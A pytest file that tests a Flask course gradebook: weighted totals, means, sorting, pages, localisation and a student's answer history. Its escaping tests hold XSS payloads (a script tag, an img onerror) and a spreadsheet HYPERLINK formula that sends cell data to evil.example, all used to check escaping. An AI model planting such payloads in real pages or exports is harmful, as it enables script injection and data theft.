"""The gradebook: scores, attempts, late and override marks, totals and column means, sorting, pages, escaping.

The expected numbers below are worked out by hand from the grades each test writes, not read from the code.
"""

from __future__ import annotations

import html
import re

import pytest
from flask import Flask
from markupsafe import escape

from webapp.models import CourseRole, Grade, Grading, Role, Submission, Variant, utcnow
from webapp.services import gradebook as gradebook_service
from webapp.services.courses import enrol

from ..catalogue_copies import WEATHER_STEPS
from ..conftest import hidden_fields, log_in, submit_form

EN = {"Accept-Language": "en"}
SCRIPT_NAME = "<script>alert(1)</script>"
IMG_ANSWER = "<img src=x onerror=alert(1)>"
# Three more catalogue exercises, for courses with several columns.
MORE_SLUGS = ("weather-15", "weather-10", "normal-sample", "poisson-mutations")


# ----- helpers (the other teacher-report tests use them too) -------------------------------------------------------


def answer(app: Flask, student, item, *typed: str) -> None:
    """Submit each estimate in turn, the survey's three guided steps (3/4 of the score) answered right."""
    client = app.test_client()
    log_in(client, student)
    for text in typed:
        response = submit_form(client, f"/items/{item.id}", {**WEATHER_STEPS, "part_p_hat": text})
        assert response.status_code == 302, text


def teacher_client(app: Flask, classroom):
    client = app.test_client()
    log_in(client, classroom["teacher"])
    return client


def gradebook_url(classroom, query: str = "") -> str:
    return f"/teach/courses/{classroom['course'].id}/gradebook{query}"


def student_url(classroom, student) -> str:
    return f"/teach/courses/{classroom['course'].id}/students/{student.id}"


def visible_text(fragment: str) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", fragment)).split())


def gradebook_rows(page: str) -> dict[str, str]:
    """Each student's row of the gradebook table as visible text, by the student's name, in the page's order."""
    body = re.search(r"<tbody>(.*?)</tbody>", page, re.S)
    assert body, "no gradebook table"
    rows = {}
    for row in re.findall(r"<tr>(.*?)</tr>", body.group(1), re.S):
        name = html.unescape(re.search(r'<th scope="row"><a [^>]*>(.*?)</a>', row, re.S).group(1))
        rows[name] = visible_text(row)
    return rows


def add_grade(
    db_session, item, student, score: float, attempts: int = 1, late: bool = False, override: float | None = None
) -> Grade:
    grade = Grade(
        assignment_item_id=item.id,
        user_id=student.id,
        score=score,
        attempts=attempts,
        is_late=late,
        override_score=override,
        override_reason="test" if override is not None else None,
    )
    db_session.add(grade)
    db_session.flush()
    return grade


def store_submission(
    db_session, classroom, student, raw: str, *, parsed: float = 0.5, created_at=None, attempt_no: int = 1
) -> Submission:
    """A submission written directly: a malformed answer is never stored by the app, but old rows might hold one."""
    item = classroom["item"]
    variant = (
        db_session.query(Variant)
        .filter_by(course_id=classroom["course"].id, user_id=student.id, exercise_id=item.exercise_id)
        .one_or_none()
    )
    if variant is None:
        variant = Variant(
            course_id=classroom["course"].id, user_id=student.id, exercise_id=item.exercise_id, seed="0" * 32
        )
        db_session.add(variant)
        db_session.flush()
    submission = Submission(
        variant_id=variant.id,
        assignment_item_id=item.id,
        user_id=student.id,
        exercise_version_id=item.exercise.current_version.id,
        attempt_no=attempt_no,
        raw_answers={"p_hat": raw},
        parsed_answers={"p_hat": parsed},
        created_at=created_at or utcnow(),
    )
    db_session.add(submission)
    db_session.flush()
    db_session.add(
        Grading(
            submission_id=submission.id,
            grader_version="test",
            score=0.0,
            verdicts={"p_hat": {"score": 0.0, "correct": False}},
            reason="submit",
        )
    )
    db_session.flush()
    return submission


@pytest.fixture
def wide_class(db_session, make_user, make_course, make_assignment):
    """Four items (the second weighs 2) and three students whose grades differ on every column:

    ============  =======  =======  =======  =======  =====================
    student       item 1   item 2   item 3   item 4   total (weights 1,2,1,1)
    ============  =======  =======  =======  =======  =====================
    Anna          100 %    50 %     —        20 %     1 + 1 + 0.2 = 2.2
    boris         40 %     100 %    late 80  —        0.4 + 2 + 0.8 = 3.2
    Carl          0 → 90 (override)  —  10 %  100 %   0.9 + 0.1 + 1 = 2.0
    ============  =======  =======  =======  =======  =====================
    """
    teacher = make_user(Role.TEACHER, name="Tamara Teacher")
    course = make_course(teacher)
    assignment = make_assignment(course, slugs=MORE_SLUGS)
    items = assignment.items
    items[1].weight = 2.0
    db_session.flush()
    anna, boris, carl = (make_user(name=name) for name in ("Anna", "boris", "Carl"))
    for student in (anna, boris, carl):
        enrol(db_session, course, student, CourseRole.STUDENT)
    add_grade(db_session, items[0], anna, 1.0)
    add_grade(db_session, items[1], anna, 0.5, attempts=2)
    add_grade(db_session, items[3], anna, 0.2)
    add_grade(db_session, items[0], boris, 0.4, attempts=3)
    add_grade(db_session, items[1], boris, 1.0)
    add_grade(db_session, items[2], boris, 0.8, late=True)
    add_grade(db_session, items[0], carl, 0.0, override=0.9)
    add_grade(db_session, items[2], carl, 0.1)
    add_grade(db_session, items[3], carl, 1.0)
    return {"teacher": teacher, "course": course, "items": items, "anna": anna, "boris": boris, "carl": carl}


def wide_page(app, wide_class, query: str = "") -> str:
    client = app.test_client()
    log_in(client, wide_class["teacher"])
    response = client.get(f"/teach/courses/{wide_class['course'].id}/gradebook{query}", headers=EN)
    assert response.status_code == 200
    return response.text


# ----- what a row shows -------------------------------------------------------------------------------------------


def test_gradebook_shows_scores_attempts_and_the_join_code(app, classroom):
    item = classroom["item"]
    answer(app, classroom["alice"], item, "0.6")
    answer(app, classroom["bob"], item, "0.7", "0.5")

    page = teacher_client(app, classroom).get(gradebook_url(classroom), headers=EN)
    assert page.status_code == 200
    assert f"<code>{classroom['course'].join_code}</code>" in page.text
    assert "2 students" in page.text

    rows = gradebook_rows(page.text)
    assert set(rows) == {"Alice", "Bob"}
    assert re.search(r"(?<!\d)100% 1 attempt(?!s)", rows["Alice"]), rows["Alice"]
    assert re.search(r"(?<!\d)75% 2 attempts", rows["Bob"]), rows["Bob"]
    assert rows["Alice"].endswith("1.00") and rows["Bob"].endswith("0.75")
    assert classroom["alice"].email in rows["Alice"] and classroom["bob"].email in rows["Bob"]


def test_totals_are_weighted_and_marks_show_late_work_and_overrides(app, wide_class):
    page = wide_page(app, wide_class)
    rows = gradebook_rows(page)
    assert list(rows) == ["Anna", "boris", "Carl"]  # by name, whatever the letter case
    assert rows["Anna"].split(wide_class["anna"].email)[1].split() == [
        "100%",
        "1",
        "attempt",
        "50%",
        "2",
        "attempts",
        "—",
        "20%",
        "1",
        "attempt",
        "2.20",
    ]
    assert rows["boris"].endswith("40% 3 attempts 100% 1 attempt 80% 1 attempt · late — 3.20"), rows["boris"]
    # Carl's computed 0 is replaced by the teacher's 90, marked as set by the teacher.
    assert rows["Carl"].split(wide_class["carl"].email)[1].strip().startswith("90% ✎ set by the teacher 1 attempt —")
    assert rows["Carl"].endswith("2.00")
    assert "of 5" in visible_text(re.search(r"<thead>.*?</thead>", page, re.S).group(0))  # weights 1 + 2 + 1 + 1


def test_the_footer_gives_each_columns_mean_over_the_students_who_tried(app, wide_class):
    footer = visible_text(re.search(r"<tfoot>(.*?)</tfoot>", wide_page(app, wide_class), re.S).group(1))
    # item 1: (100 + 40 + 90) / 3 = 76.7; item 2: (50 + 100) / 2 = 75; item 3: (80 + 10) / 2 = 45;
    # item 4: (20 + 100) / 2 = 60; totals: (2.2 + 3.2 + 2.0) / 3 = 2.47.
    assert footer == ("Mean of the students who tried 76.7% n = 3 75% n = 2 45% n = 2 60% n = 2 2.47"), footer


# ----- sorting ----------------------------------------------------------------------------------------------------


def headings(page: str) -> list[tuple[str, str, str]]:
    """Each column heading as (its aria-sort or "", its link, its visible text)."""
    head = re.search(r"<thead>(.*?)</thead>", page, re.S).group(1)
    return [
        (sort, html.unescape(link), visible_text(text))
        for sort, link, text in re.findall(
            r'<th scope="col"[^>]*?(?:aria-sort="(\w+)")?>\s*<a href="([^"]+)">(.*?)</a>\s*</th>', head, re.S
        )
    ]


@pytest.mark.parametrize(
    ("query", "order"),
    [
        ("", ["Anna", "boris", "Carl"]),
        ("?sort=name&dir=desc", ["Carl", "boris", "Anna"]),
        ("?sort=total&dir=asc", ["Carl", "Anna", "boris"]),
        ("?sort=total&dir=desc", ["boris", "Anna", "Carl"]),
    ],
)
def test_sorting_by_name_and_total(app, wide_class, query, order):
    assert list(gradebook_rows(wide_page(app, wide_class, query))) == order


def test_sorting_by_a_column_puts_students_without_a_grade_last_both_ways(app, wide_class):
    third = wide_class["items"][2].id  # boris 80 (late), Carl 10, Anna none
    up = wide_page(app, wide_class, f"?sort=item-{third}&dir=asc")
    down = wide_page(app, wide_class, f"?sort=item-{third}&dir=desc")
    assert list(gradebook_rows(up)) == ["Carl", "boris", "Anna"]
    assert list(gradebook_rows(down)) == ["boris", "Carl", "Anna"]
    first = wide_class["items"][0].id  # Anna 100, Carl 90 by override (computed 0), boris 40
    assert list(gradebook_rows(wide_page(app, wide_class, f"?sort=item-{first}&dir=desc"))) == ["Anna", "Carl", "boris"]


def test_the_sorted_heading_says_so_and_links_to_the_other_direction(app, wide_class):
    by_total = headings(wide_page(app, wide_class, "?sort=total&dir=desc"))
    assert len(by_total) == 6  # the name, four items, the total
    assert [(sort, text.split()[0]) for sort, _, text in by_total if sort] == [("descending", "Total")]
    assert by_total[-1][1].endswith("?sort=total&dir=asc")  # the sorted column turns around
    assert by_total[0][1].endswith("?sort=name&dir=asc")  # another starts ascending
    item = wide_class["items"][1].id
    assert by_total[2][1].endswith(f"?sort=item-{item}&dir=asc")

    by_name = headings(wide_page(app, wide_class))
    assert [(sort, text) for sort, _, text in by_name if sort] == [("ascending", "Student ▲")]
    assert by_name[0][1].endswith("?sort=name&dir=desc")


@pytest.mark.parametrize(
    "query",
    [
        "?sort=password",
        "?sort=item-999999&dir=desc",
        "?sort=name&dir=sideways",
        "?sort=__class__",
        "?sort=&dir=",
        "?page=abc",
        "?page=-3",
        "?page=99999",
    ],
)
def test_an_unknown_order_or_page_falls_back_quietly(app, wide_class, query):
    assert list(gradebook_rows(wide_page(app, wide_class, query))) == ["Anna", "boris", "Carl"]


def test_pages_of_a_large_class_keep_the_order(app, wide_class, monkeypatch, db_session, make_user):
    monkeypatch.setattr(gradebook_service, "PAGE_SIZE", 2)
    dora = make_user(name="Dora")
    enrol(db_session, wide_class["course"], dora, CourseRole.STUDENT)
    first = wide_page(app, wide_class, "?sort=total&dir=desc")
    second = wide_page(app, wide_class, "?sort=total&dir=desc&page=2")
    # totals: boris 3.2, Anna 2.2, Carl 2.0, Dora 0.
    assert list(gradebook_rows(first)) == ["boris", "Anna"]
    assert list(gradebook_rows(second)) == ["Carl", "Dora"]
    assert "4 students" in first
    links = re.findall(r'<nav class="pages"[^>]*>.*?</nav>', second, re.S)[0]
    assert 'aria-current="page" class="current-page">2<' in links
    assert html.unescape(re.search(r'href="([^"]+)">1<', links).group(1)).endswith("sort=total&dir=desc&page=1")
    # The footer's means still count every student, not the page's.
    assert "n = 3" in visible_text(re.search(r"<tfoot>(.*?)</tfoot>", second, re.S).group(1))


def test_gradebook_without_students_says_so(app, make_course, make_user):
    teacher = make_user(Role.TEACHER)
    course = make_course(teacher, title="Empty course")
    client = app.test_client()
    log_in(client, teacher)
    page = client.get(f"/teach/courses/{course.id}/gradebook", headers=EN)
    assert page.status_code == 200
    assert "No students have joined yet" in page.text and course.join_code in page.text


def test_gradebook_in_russian(app, wide_class):
    client = app.test_client()
    log_in(client, wide_class["teacher"])
    page = client.get(f"/teach/courses/{wide_class['course'].id}/gradebook", headers={"Accept-Language": "ru"})
    assert page.status_code == 200
    assert "Журнал оценок" in page.text and "Среднее" in page.text and "выставлено преподавателем" in page.text
    assert "Mean" not in page.text and "set by the teacher" not in page.text


# ----- one student's history, and escaping ------------------------------------------------------------------------


def test_student_history_lists_raw_answers_newest_first(app, classroom):
    bob = classroom["bob"]
    answer(app, bob, classroom["item"], " 0,70 ", "0.5")

    page = teacher_client(app, classroom).get(student_url(classroom, bob), headers=EN)
    assert page.status_code == 200
    assert "2 submissions" in page.text
    raw_answers = re.findall(r'<code class="raw-answer">(.*?)</code>', page.text)
    assert [raw for raw in raw_answers if "p" not in raw] == ["0.5", " 0,70 "]  # the estimates, not the formulas
    assert re.findall(r"attempt (\d+)", page.text) == ["2", "1"]
    cards = re.findall(r'<article class="submission-card">(.*?)</article>', page.text, re.S)
    assert len(cards) == 2
    assert all("incorrect" in visible_text(card) and "75%" in visible_text(card) for card in cards)
    assert "0.7" in visible_text(cards[1])  # what " 0,70 " was read as


def test_student_history_of_someone_outside_the_course_is_not_found(app, classroom, make_user):
    outsider = make_user(name="Olga Outsider")
    client = teacher_client(app, classroom)
    assert client.get(student_url(classroom, outsider)).status_code == 404
    assert client.get(student_url(classroom, classroom["teacher"])).status_code == 404  # a teacher is no student
    assert client.get(f"/teach/courses/{classroom['course'].id}/students/999999").status_code == 404


def test_a_students_name_is_escaped(app, client, classroom):
    page = client.get("/register")
    response = client.post(
        "/register",
        data={
            **hidden_fields(page.text),
            "name": SCRIPT_NAME,
            "email": "mallory@example.com",
            "password": "a long enough passphrase",
            "confirm": "a long enough passphrase",
            "join_code": classroom["course"].join_code,
        },
    )
    assert response.status_code == 302

    teacher = teacher_client(app, classroom)
    gradebook = teacher.get(gradebook_url(classroom), headers=EN).text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in gradebook
    assert SCRIPT_NAME not in gradebook and "<script>alert" not in gradebook
    assert SCRIPT_NAME in gradebook_rows(gradebook)

    mallory_id = re.search(r'/students/(\d+)">&lt;script&gt;', gradebook).group(1)
    history = teacher.get(f"/teach/courses/{classroom['course'].id}/students/{mallory_id}", headers=EN).text
    assert "<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1>" in history and "<script>alert" not in history


@pytest.mark.parametrize("raw", [IMG_ANSWER, '=HYPERLINK("http://evil.example/?x="&A1,"click")'])
def test_a_stored_raw_answer_is_escaped(app, classroom, db_session, raw):
    store_submission(db_session, classroom, classroom["bob"], raw)
    page = teacher_client(app, classroom).get(student_url(classroom, classroom["bob"]), headers=EN).text
    assert f'<code class="raw-answer">{escape(raw)}</code>' in page
    assert "<img" not in page
